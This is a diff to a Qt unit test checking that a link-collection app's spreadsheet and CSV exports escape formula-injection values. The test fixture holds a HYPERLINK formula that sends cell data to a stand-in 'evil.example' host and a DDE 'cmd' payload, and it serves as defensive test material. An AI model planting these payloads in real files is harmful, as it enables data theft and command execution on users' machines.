@@ -191,10 +191,26 @@ private slots:
         }
     }
 
+    // The exports, the sample's links and cells a spreadsheet would run as formulas among them, read
+    // back to the same links: no cell of the file starts a formula, and the guards come off again.
     void exportReadsBackInEveryEncoding()
     {
-        CollectionManager sample;
+        DatabaseBuilder db;
+        CollectionManager &sample = db.store();
         QVERIFY(DatabaseFile::read(QStringLiteral(QM_SOURCE_DIR "/examples/sample.site"), sample));
+        LinkFields formulas;
+        formulas.title = QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1)");
+        formulas.URL = QStringLiteral("http://formula.example/");
+        formulas.description = QStringLiteral("-5 % off");
+        formulas.counterpartCategoryName = QStringLiteral("'Friends'");
+        formulas.contactFirstName = QStringLiteral("@home");
+        formulas.contactLastName = QStringLiteral("'=already quoted");
+        formulas.contactEmail = QStringLiteral("+1@formula.example");
+        formulas.notes = QStringLiteral("\tindented\r\n=SUM(1)");
+        formulas.lastStatusChangedOn = QDate(2026, 11, 30);
+        formulas.lastVerifiedOn = QDate(2026, 12, 7);
+        formulas.lastVerificationResult = VerificationLinkNotFound;
+        db.category(QStringLiteral("=cmd|' /C calc'!A0"), QStringLiteral("cmd")).link(formulas);
         for (const int encoding :
              {int(TextEncoding::UTF16), int(TextEncoding::UTF8), int(TextEncoding::ISOLatin1),
               int(TextEncoding::MacOSRoman), -1}) { // -1: CSV
@@ -206,6 +222,10 @@ private slots:
                 options.encoding = TextEncoding::MacOSRoman; // never guessed: the user picks it
             const std::optional<Table> read = TableReader::read(data, options);
             QVERIFY(read);
+            for (const TableRow &row : read->rows) {
+                for (const QString &cell : row.cells)
+                    QVERIFY2(!QString("=+-@\t\r").contains(cell.left(1)) || cell.isEmpty(), qPrintable(cell));
+            }
 
             CollectionManager empty;
             TableImporter importer(empty, *read, TableColumns::mappingOfHeaders(read->headers), false, Today);
